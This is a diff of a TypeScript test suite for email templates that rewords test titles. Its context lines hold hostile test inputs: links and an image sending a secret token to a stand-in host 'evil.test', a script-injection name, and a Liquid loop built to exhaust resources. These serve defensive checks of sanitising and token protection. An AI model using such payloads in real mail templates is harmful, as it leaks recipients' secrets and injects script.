@@ -34,13 +34,13 @@ describe("texts of mails", () => {
   for (const kind of kinds)
     for (const locale of LOCALES) {
       const builtIn = mailKinds()[kind].texts[locale];
-      it(`${kind} in ${locale}: uses only what the kind has`, async () => {
+      it(`${kind} in ${locale}: uses only the kind's variables`, async () => {
         const whole = [builtIn.subject, builtInHtml(builtIn), ...builtIn.body.filter((part) => typeof part === "string")];
         for (const text of whole) expect(await isTemplate(text, variablesOf(kind)), text).to.equal(true);
         expect(await sanitised(builtInHtml(builtIn)), "markup that sanitising keeps").to.equal(builtInHtml(builtIn));
       });
 
-      it(`${kind} in ${locale}: the plain text stands alone`, async () => {
+      it(`${kind} in ${locale}: the plain text is complete alone`, async () => {
         const needs = builtIn.body.some((part) => typeof part !== "string" && "button" in part);
         const made = await compose(
           parts({
@@ -103,7 +103,7 @@ describe("texts of mails", () => {
     ]);
   });
 
-  it("greets somebody without a name without a gap", async () => {
+  it("greets a person without a name without a gap", async () => {
     const { text } = await compose(parts({ name: null, locale: "en" }), sender(), DUTCH, undefined);
     expect(text.split("\n")[0]).to.equal("Hello,");
   });
@@ -123,7 +123,7 @@ describe("texts of mails", () => {
     expect(made.text).to.equal((await compose(parts(), sender(), DUTCH, undefined)).text);
   });
 
-  it("gives the secret of a link to nobody but the link: not to an image, nor to an address of the template's own", async () => {
+  it("puts the secret of a link only into the link: not into an image, nor an address of the template's own", async () => {
     const body =
       '<p><img src="https://evil.test/a?{{ link }}" /><a href="https://evil.test/b?{{ link }}">b</a>' +
       '<a href="{{ link }}&x=1">d</a><a title="{{ link }}" href="{{ link }}">e</a> {{ link }}</p>';
@@ -133,7 +133,7 @@ describe("texts of mails", () => {
     expect(html.match(/T0K3N/g)).to.have.length(2);
   });
 
-  it("takes a blank subject or body for the built-in one, each by itself", async () => {
+  it("replaces a blank subject or body by the built-in one, each separately", async () => {
     const builtIn = await compose(parts(), sender(), DUTCH, undefined);
     const onlyBody = await compose(parts(), sender(), DUTCH, { subject: "  ", body: "<p>Eigen tekst</p>" });
     expect(onlyBody.subject).to.equal(builtIn.subject);
@@ -141,7 +141,7 @@ describe("texts of mails", () => {
     expect(await compose(parts(), sender(), DUTCH, { subject: "", body: "" })).to.deep.equal(builtIn);
   });
 
-  it("falls back to the built-in text when the own one cannot be used, and tells", async () => {
+  it("falls back to the built-in text when the own one fails, and reports it", async () => {
     const told: string[] = [];
     const broken = { subject: "", body: "{% for i in (1..100000000) %}x{% endfor %}" };
     const made = await compose(parts(), sender(), DUTCH, broken, ({ message }) => told.push(message));
@@ -150,7 +150,7 @@ describe("texts of mails", () => {
   });
 });
 
-describe("what may stand in a mail", () => {
+describe("allowed content of a mail", () => {
   const NAMES = [
     "<b>Eva</b>",
     "<script>alert(1)</script>Eva",
@@ -352,7 +352,7 @@ describe("branding of mails", () => {
     );
   });
 
-  it("writes on a colour in black or white, whichever reads better", () => {
+  it("writes on a colour in the more readable of black and white", () => {
     expect(readableOn("#ffffff")).to.equal("#000000");
     expect(readableOn("#ffcc00")).to.equal("#000000");
     expect(readableOn("#000")).to.equal("#ffffff");
